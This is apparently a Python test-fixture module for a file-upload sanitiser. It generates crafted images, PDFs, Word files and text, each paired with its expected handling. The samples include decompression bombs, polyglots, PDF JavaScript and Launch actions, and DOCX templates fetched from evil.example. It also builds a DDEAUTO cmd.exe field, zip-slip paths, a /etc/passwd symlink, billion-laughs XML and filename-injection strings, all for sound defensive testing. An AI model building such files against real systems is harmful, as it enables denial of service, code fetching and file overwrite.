"""Files as strangers may make them: pictures, PDF, Word, text; each with what should become of it.

`CANARY` stands wherever a file says more than one sees in it; `SEEN` where it should still be seen.
"""

from __future__ import annotations

import io
import stat
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping
from typing import Any

import pikepdf
from PIL import Image, ImageDraw, PngImagePlugin

CANARY = "ZQcanary8151"
SEEN = "SeenWords4242"
Made = tuple[str, bytes, str]  # a name, the bytes, and the kind that it becomes or the key of its refusal


# ---- pictures


def picture(mode: str = "RGB", size: tuple[int, int] = (60, 40)) -> Image.Image:
    made = Image.new(mode, size)
    if mode in ("RGB", "RGBA", "L"):
        ImageDraw.Draw(made).rectangle((5, 5, 30, 20), fill="white")
    return made


def saved(image: Image.Image, kind: str, **more: Any) -> bytes:
    out = io.BytesIO()
    image.save(out, kind, **more)
    return out.getvalue()


def exif(orientation: int = 1) -> Image.Exif:
    made = Image.Exif()
    made[0x010F] = f"{CANARY} camera"
    made[0x0112] = orientation
    made[0x013B] = f"{CANARY} artist"
    made.get_ifd(0x8825)[1] = "N"
    made.get_ifd(0x8825)[29] = f"{CANARY}"
    return made


def chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def flood(width: int, height: int) -> bytes:
    """A PNG of a few bytes that says it has so many points."""
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(bytes(1000))) + chunk(b"IEND", b"")


def jpeg_flood() -> bytes:
    data = bytearray(saved(picture(), "JPEG"))
    at = data.index(b"\xff\xc0") + 5
    data[at : at + 4] = struct.pack(">HH", 60000, 60000)
    return bytes(data)


def webp_flood() -> bytes:
    extended = b"VP8X" + struct.pack("<I", 10) + bytes(4) + b"\xfe\x3f\x00\xfe\x3f\x00"
    body = b"WEBP" + extended + saved(picture(), "WEBP", lossless=True)[12:]
    return b"RIFF" + struct.pack("<I", len(body)) + body


def telling_jpeg() -> bytes:
    """Two pictures of which the second is hidden behind the first, and both tell."""
    more = {"exif": exif(), "comment": CANARY.encode(), "progressive": True}
    return saved(picture(), "JPEG", **more) + saved(picture(), "JPEG", **more)


def telling_png(profile: bytes = bytes(200)) -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Author", CANARY)
    info.add_text("Comment", CANARY, zip=True)
    info.add_itxt("XML:com.adobe.xmp", f"<x:xmpmeta>{CANARY}</x:xmpmeta>")
    return saved(picture("RGBA"), "PNG", pnginfo=info, exif=exif(), icc_profile=profile)


def text_bomb() -> bytes:
    """A PNG whose compressed comment is 100 MB long."""
    whole = saved(picture(), "PNG")
    body = b"Comment\0\0" + zlib.compress(bytes(100_000_000), 9)
    return whole[:33] + chunk(b"zTXt", body) + whole[33:]


def pictures() -> Iterator[Made]:
    jpeg = saved(picture(), "JPEG", exif=exif(), comment=CANARY.encode(), icc_profile=CANARY.encode() * 10)
    webp = saved(picture(), "WEBP", exif=exif(), xmp=f"<x>{CANARY}</x>".encode())
    png = telling_png(CANARY.encode() * 10)
    yield "png.png", png, "png"
    yield "jpeg.jpg", jpeg, "webp"
    yield "webp.webp", webp, "webp"
    yield "turned.jpg", saved(picture(), "JPEG", exif=exif(6)), "webp"
    yield "png and zip.png", png + archive({"x.txt": CANARY}), "png"
    yield "jpeg and page.jpg", jpeg + f"<html><script>{CANARY}</script>".encode(), "webp"
    yield "jpeg in a zip's name.zip", jpeg, "webp"
    yield "picture.exe", png, "png"
    yield "picture.svg", png, "png"
    for mode in ("1", "L", "LA", "P", "I;16"):
        yield f"mode {mode}.png", saved(picture(mode), "PNG"), "png"
    clear = picture("P")
    yield "clear.png", saved(clear, "PNG", transparency=0), "png"
    yield "cmyk.jpg", saved(picture("CMYK"), "JPEG"), "webp"
    yield from wrong_pictures(png, jpeg, webp)


def wrong_pictures(png: bytes, jpeg: bytes, webp: bytes) -> Iterator[Made]:
    two = [picture(), Image.effect_noise((60, 40), 50).convert("RGB")]
    yield "moving.png", saved(two[0], "PNG", save_all=True, append_images=two[1:]), "moving"
    yield "moving.webp", saved(two[0], "WEBP", save_all=True, append_images=two[1:], duration=100), "moving"
    yield "two in one.jpg", saved(two[0], "MPO", save_all=True, append_images=two[1:]), "webp"
    yield "flood.png", flood(50_000, 50_000), "pixels"
    yield "flat flood.png", flood(2**31 - 1, 1), "pixels"
    yield "flood.jpg", jpeg_flood(), "pixels"
    yield "flood.webp", webp_flood(), "pixels"
    yield "a little too many.png", saved(Image.new("1", (4001, 3000)), "PNG"), "pixels"
    yield "just so many.png", saved(Image.new("1", (4000, 3000)), "PNG"), "png"
    yield "said and not there.png", flood(3000, 3000), "broken"
    yield "text bomb.png", text_bomb(), "broken"
    yield "cut.png", png[:-60], "broken"
    yield "cut.jpg", jpeg[: len(jpeg) // 2], "broken"
    yield "cut.webp", webp[:60], "broken"
    yield "signature alone.png", b"\x89PNG\r\n\x1a\n", "broken"
    yield "beginning alone.jpg", b"\xff\xd8\xff\xe0", "broken"
    yield "no size.png", flood(0, 0), "broken"
    for kind in ("GIF", "BMP", "TIFF", "ICO"):
        yield f"other.{kind.lower()}", saved(picture(), kind), "unknown"
    yield "gif named.png", saved(picture(), "GIF"), "unknown"
    yield "drawing.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>", "unknown"
    yield "drawing.png", b"<?xml version='1.0'?><svg onload='alert(1)'/>", "unknown"


# ---- PDF


def pdf(change: Callable[[pikepdf.Pdf], object] = lambda pdf: None, **more: Any) -> bytes:
    made = pikepdf.new()
    page = made.add_blank_page()
    page.Contents = made.make_stream(f"BT ({SEEN}) Tj ET".encode())
    change(made)
    out = io.BytesIO()
    made.save(out, compress_streams=False, object_stream_mode=pikepdf.ObjectStreamMode.disable, **more)
    return out.getvalue()


def _script(pdf: pikepdf.Pdf) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=f"app.alert('{CANARY}')")


def _author(pdf: pikepdf.Pdf) -> None:
    pdf.docinfo["/Author"] = CANARY
    with pdf.open_metadata() as meta:
        meta["dc:creator"] = [CANARY]


def _named_script(pdf: pikepdf.Pdf) -> None:
    names = pikepdf.Array([pikepdf.String("a"), pdf.make_indirect(_script(pdf))])
    pdf.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=names))


def _embedded(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["x.exe"] = CANARY.encode()


def _annotated(kind: str, **action: Any) -> Callable[[pikepdf.Pdf], None]:
    def change(pdf: pikepdf.Pdf) -> None:
        made = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name(f"/{kind}"), Rect=[0, 0, 9, 9]
        )
        if action:
            made.A = pdf.make_indirect(pikepdf.Dictionary(**action))
        if kind == "FileAttachment":
            made.FS = pikepdf.Dictionary(EF=pikepdf.Dictionary(F=pdf.make_stream(CANARY.encode())))
        pdf.pages[0].Annots = pikepdf.Array([pdf.make_indirect(made)])

    return change


def _form(pdf: pikepdf.Pdf) -> None:
    signed = pikepdf.Dictionary(Type=pikepdf.Name.Sig, Name=CANARY)
    field = pikepdf.Dictionary(FT=pikepdf.Name.Sig, T="by", V=pdf.make_indirect(signed))
    pdf.Root.AcroForm = pikepdf.Dictionary(
        Fields=[pdf.make_indirect(field)], XFA=pdf.make_stream(f"<xdp>{CANARY}</xdp>".encode())
    )


def _photo(pdf: pikepdf.Pdf) -> None:
    photo = pdf.make_stream(telling_jpeg())
    photo.Type, photo.Subtype = pikepdf.Name.XObject, pikepdf.Name.Image
    photo.Width, photo.Height, photo.BitsPerComponent = 60, 40, 8
    photo.ColorSpace, photo.Filter = pikepdf.Name.DeviceRGB, pikepdf.Name.DCTDecode
    pdf.pages[0].Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Im0=photo))


def _set(**more: Callable[[pikepdf.Pdf], Any]) -> Callable[[pikepdf.Pdf], None]:
    def change(pdf: pikepdf.Pdf) -> None:
        for name, value in more.items():
            pdf.Root[f"/{name}"] = value(pdf)
            pdf.pages[0].obj[f"/{name}"] = value(pdf)

    return change


def _deep(pdf: pikepdf.Pdf) -> None:
    found = pikepdf.Array()
    for _ in range(300):
        found = pikepdf.Array([found])
    pdf.Root.Deep = found


def _no_pages(pdf: pikepdf.Pdf) -> None:
    del pdf.pages[0]


def updated() -> bytes:
    """A PDF to which another was added; the first one's words are still in the file."""
    old = pdf(lambda made: setattr(made.Root, "Old", pikepdf.String(CANARY)))
    at = old.rindex(b"startxref")
    root = b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    start = old[at:].split()[1]
    begin = len(old)
    table = f"xref\n1 1\n{begin:010} 00000 n \ntrailer << /Size 9 /Root 1 0 R /Prev {start.decode()} >>\n"
    return old + root + table.encode() + f"startxref\n{begin + len(root)}\n%%EOF\n".encode()


def pdfs() -> Iterator[Made]:
    plain = pdf(_author)
    launch = {"S": pikepdf.Name.Launch, "F": f"{CANARY}.exe"}
    yield "author.pdf", plain, "pdf"
    yield (
        "script at the start.pdf",
        pdf(_set(OpenAction=_script, AA=lambda p: pikepdf.Dictionary(O=_script(p)))),
        "pdf",
    )
    yield "script by name.pdf", pdf(_named_script), "pdf"
    yield "file inside.pdf", pdf(_embedded), "pdf"
    yield "file pinned.pdf", pdf(_annotated("FileAttachment")), "pdf"
    yield "launch.pdf", pdf(_annotated("Link", **launch)), "pdf"
    elsewhere = {"S": pikepdf.Name.GoToR, "F": f"//{CANARY}/x.pdf", "D": "x"}
    yield "elsewhere.pdf", pdf(_annotated("Link", **elsewhere)), "pdf"
    yield "sends.pdf", pdf(_annotated("Link", S=pikepdf.Name.SubmitForm, F=f"https://{CANARY}")), "pdf"
    yield "script link.pdf", pdf(_annotated("Link", S=pikepdf.Name.URI, URI=f"javascript:{CANARY}")), "pdf"
    yield "film.pdf", pdf(_annotated("RichMedia", S=pikepdf.Name.Rendition, JS=CANARY)), "pdf"
    yield "form and signature.pdf", pdf(_form), "pdf"
    told = {"PieceInfo": lambda p: pikepdf.Dictionary(X=CANARY), "LastModified": lambda p: CANARY}
    yield "private data.pdf", pdf(_set(**told)), "pdf"
    yield "small picture.pdf", pdf(_set(Thumb=lambda p: p.make_stream(CANARY.encode()))), "pdf"
    yield "photo.pdf", pdf(_photo), "pdf"
    yield "updated.pdf", updated(), "pdf"
    yield "pdf and zip.pdf", plain + archive({"x.txt": CANARY}), "pdf"
    yield "pdf and page.pdf", plain + f"<html><script>{CANARY}</script></html>".encode(), "pdf"
    yield "pdf.docx", plain, "pdf"
    yield from wrong_pdfs(plain)


def wrong_pdfs(plain: bytes) -> Iterator[Made]:
    locked = pikepdf.Encryption(owner="o", user="u")
    yield "locked.pdf", pdf(encryption=locked), "locked"
    yield "half locked.pdf", pdf(encryption=pikepdf.Encryption(owner="o", user="")), "locked"
    yield "cut.pdf", plain[: len(plain) // 2], "broken"
    yield "end cut.pdf", plain[:-30], "broken"
    yield "beginning alone.pdf", b"%PDF-1.7\n", "broken"
    yield "no pages.pdf", pdf(_no_pages), "broken"
    yield "deep.pdf", pdf(_deep), "broken"
    yield "after other things.pdf", b"\n\n" + plain, "unknown"


# ---- Word


TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/></Types>'
)
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
CORE = f'<coreProperties xmlns:dc="d"><dc:creator>{CANARY}</dc:creator></coreProperties>'
WORDS = f'<w:document xmlns:w="w"><w:p>{SEEN}</w:p></w:document>'


def relations(*rows: tuple[str, str, str]) -> str:
    lines = [
        f'<Relationship Id="r{i}" Type="{kind}" Target="{to}"{mode}/>'
        for i, (kind, to, mode) in enumerate(rows)
    ]
    return f'<Relationships xmlns="{PACKAGE}">{"".join(lines)}</Relationships>'


OUT = ' TargetMode="External"'
ROOT = relations(
    (f"{RELATION}/officeDocument", "word/document.xml", ""),
    (f"{PACKAGE}/metadata/core-properties", "docProps/core.xml", ""),
    (f"{RELATION}/extended-properties", "docProps/app.xml", ""),
    (f"{RELATION}/custom-properties", "docProps/custom.xml", ""),
    (f"{PACKAGE}/metadata/thumbnail", "docProps/thumbnail.jpeg", ""),
)
PARTS: Mapping[str, str | bytes] = {
    "[Content_Types].xml": TYPES,
    "_rels/.rels": ROOT,
    "word/document.xml": WORDS,
    "docProps/core.xml": CORE,
    "docProps/app.xml": f"<Properties><Company>{CANARY}</Company></Properties>",
    "docProps/custom.xml": f"<Properties>{CANARY}</Properties>",
    "docProps/thumbnail.jpeg": CANARY.encode(),
}


def archive(parts: Mapping[str, str | bytes], comment: bytes = b"") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, part in parts.items():
            made.writestr(name, part)
        made.comment = comment
    return out.getvalue()


def docx(comment: bytes = b"", **parts: str | bytes) -> bytes:
    return archive({**PARTS, **{name.replace("__", "/"): part for name, part in parts.items()}}, comment)


def with_part(name: str, part: str | bytes = "x") -> bytes:
    return archive({**PARTS, name: part})


def related(kind: str, to: str, mode: str = OUT) -> bytes:
    return with_part("word/_rels/document.xml.rels", relations((f"{RELATION}/{kind}", to, mode)))


def linked_away() -> bytes:
    info = zipfile.ZipInfo("word/link.xml")
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a") as made:
        made.writestr(info, "/etc/passwd")
    return out.getvalue()


def moved_core() -> bytes:
    """Its properties lie where nobody looks for them."""
    parts = {name: part for name, part in PARTS.items() if name != "docProps/core.xml"}
    kept = ROOT.replace("docProps/core.xml", "word/who.xml")
    return archive({**parts, "_rels/.rels": kept, "word/who.xml": CORE})


def lying() -> bytes:
    """A part that is larger than the archive's directory says."""
    data = bytearray(with_part("word/more.xml", "x" * 5000))
    size = struct.pack("<I", 5000)
    return bytes(data).replace(size, struct.pack("<I", 50))


def field_of(words: str) -> str:
    return f'<w:document xmlns:w="w"><w:instrText>{words}</w:instrText></w:document>'


def documents() -> Iterator[Made]:
    yield "author.docx", docx(comment=CANARY.encode()), "docx"
    yield "moved.docx", moved_core(), "docx"
    yield "link.docx", related("hyperlink", "https://example.org/"), "docx"
    yield "photo.docx", with_part("word/media/image1.jpeg", telling_jpeg()), "docx"
    yield "drawing.docx", with_part("word/media/image1.png", telling_png()), "docx"
    yield "cut photo.docx", with_part("word/media/image1.jpeg", telling_jpeg()[:300]), "broken"
    yield "cut drawing.docx", with_part("word/media/image1.png", telling_png()[:300]), "broken"
    yield "split.docx", docx() + CANARY.encode(), "docx"
    yield from acting_documents()
    yield from false_archives()


def acting_documents() -> Iterator[Made]:
    yield "macro.docx", with_part("word/vbaProject.bin"), "macros"
    macros = TYPES.replace("application/xml", "application/vnd.ms-word.document.macroEnabled.main+xml")
    yield "macro type.docx", with_part("[Content_Types].xml", macros), "macros"
    yield "object.docx", with_part("word/embeddings/oleObject1.bin"), "objects"
    yield "control.docx", with_part("word/activeX/activeX1.xml"), "objects"
    yield "program.docx", with_part("word/media/run.exe"), "objects"
    yield "template.docx", related("attachedTemplate", "https://evil.example/x.dotm"), "fetches"
    yield "picture from elsewhere.docx", related("image", "http://evil.example/x.png"), "fetches"
    yield "share.docx", related("image", "file:///c:/x.png", ""), "fetches"
    yield "script link.docx", related("hyperlink", "javascript:alert(1)"), "fetches"
    yield "chunk.docx", related("aFChunk", "x.htm", ""), "fetches"
    yield "field.docx", with_part("word/document.xml", field_of("DDEAUTO c:/cmd.exe")), "fetches"
    split = "<w:instrText>INCLUDE</w:instrText><w:instrText>PICTURE x</w:instrText>"
    yield "field in two.docx", with_part("word/document.xml", f'<w:d xmlns:w="w">{split}</w:d>'), "fetches"


def false_archives() -> Iterator[Made]:
    yield "bomb.docx", with_part("word/big.xml", bytes(49_000_000)), "archive"
    yield "bigger.docx", with_part("word/big.xml", bytes(60_000_000)), "archive"
    yield "many.docx", docx(**{f"word__{i}.xml": "x" for i in range(600)}), "archive"
    yield "archive inside.docx", with_part("word/x.xml", archive({"a": "b"})), "archive"
    yield "way up.docx", with_part("../../evil.xml"), "archive"
    yield "root.docx", with_part("/etc/evil.xml"), "archive"
    yield "drive.docx", with_part("c:/evil.xml"), "archive"
    yield "link to a file.docx", linked_away(), "archive"
    yield "twice.docx", with_part("WORD/document.xml"), "archive"
    yield "lying.docx", lying(), "archive"
    laughs = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>'
    yield "laughs.docx", with_part("word/settings.xml", laughs), "archive"
    yield "bad relations.docx", with_part("_rels/.rels", "<no"), "broken"
    yield "cut.docx", docx()[:-40], "archive"
    yield "beginning alone.docx", b"PK\x03\x04", "archive"
    yield "table.docx", archive({"[Content_Types].xml": TYPES, "xl/workbook.xml": "<x/>"}), "zip"
    yield "java.docx", archive({"META-INF/MANIFEST.MF": "x", "a.class": "x"}), "zip"
    yield "folder.zip", archive({"notes.txt": "x"}), "zip"


# ---- text, and what is nothing of all that


def texts() -> Iterator[Made]:
    yield "plain.txt", f"{SEEN}\r\nZwölf – نور\n".encode(), "text"
    yield "marked.txt", b"\xef\xbb\xbf" + SEEN.encode(), "text"
    yield "windows.txt", f"{SEEN} caf\u00e9 \u2013 \u20ac5".encode("cp1252"), "text"
    yield "named.pdf", SEEN.encode(), "text"
    yield "table.csv", f"{SEEN},=1+1\n".encode(), "text"
    yield "nul.txt", b"one\0two", "unknown"
    yield "wide.txt", "wide".encode("utf-16"), "unknown"
    yield "screen.txt", b"\x1b[2J\x1b]0;title\x07", "unknown"
    yield "no letters.txt", b"a\x81\x8d\x9f\x90b", "unknown"
    yield "page.txt", b"  <!DOCTYPE html><script>alert(1)</script>", "unknown"
    yield "page.html", b"<html><body onload=alert(1)>", "unknown"
    yield "rich.rtf", b"{\\rtf1\\object}", "unknown"
    yield "print.ps", b"%!PS-Adobe-3.0\nsystem", "unknown"
    yield "program.exe", b"MZ\x90\0\x03\0\0\0" + bytes(200), "unknown"
    yield "program", b"\x7fELF\x02\x01\x01" + bytes(200), "unknown"
    yield "old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "unknown"
    yield "packed.gz", b"\x1f\x8b\x08\0\0\0\0\0", "unknown"
    yield "blank.txt", b" \n\n ", "empty"
    yield "nothing.txt", b"", "empty"
    yield "long.txt", b"x" * 5_000_001, "large"
    yield "as long as may be.txt", b"x" * 5_000_000, "text"
    yield "grows.txt", "\u20ac".encode("cp1252") * 4_000_000, "large"


def every() -> list[Made]:
    return [*pictures(), *pdfs(), *documents(), *texts()]


NAMES = [
    ("../../etc/passwd", "passwd.txt"),
    ("..\\..\\boot.ini", "boot.ini.txt"),
    ("C:\\Users\\me\\My notes.TXT", "My notes.txt"),
    ("a\0b.txt", "ab.txt"),
    ("photo\u202etxt.exe", "phototxt.exe.txt"),
    ("\u202e\u2066\u200b.txt", "txt.txt"),
    ("line\r\nSet-Cookie: x=1.txt", "lineSet-Cookie_ x=1.txt"),
    ('quote";.txt', "quote_;.txt"),
    ("CON", "_CON.txt"),
    ("con.txt", "_con.txt"),
    ("aux.tar.txt", "_aux.tar.txt"),
    ("LPT1 .txt", "_LPT1.txt"),
    ("", "file.txt"),
    (".", "file.txt"),
    ("...", "file.txt"),
    ("/", "file.txt"),
    ("notes.txt. . ", "notes.txt"),
    ("notes.pdf", "notes.txt"),
    ("notes.pdf.exe", "notes.pdf.exe.txt"),
    ("notes", "notes.txt"),
    ("\u0645\u0644\u0627\u062d\u0638\u0627\u062a.txt", "\u0645\u0644\u0627\u062d\u0638\u0627\u062a.txt"),
    ("cafe\u0301.txt", "caf\u00e9.txt"),
    ("x" * 300 + ".txt", "x" * 95 + ".txt"),
    ("<b>&amp;?*|:.txt", "_b_&amp;____.txt"),
]
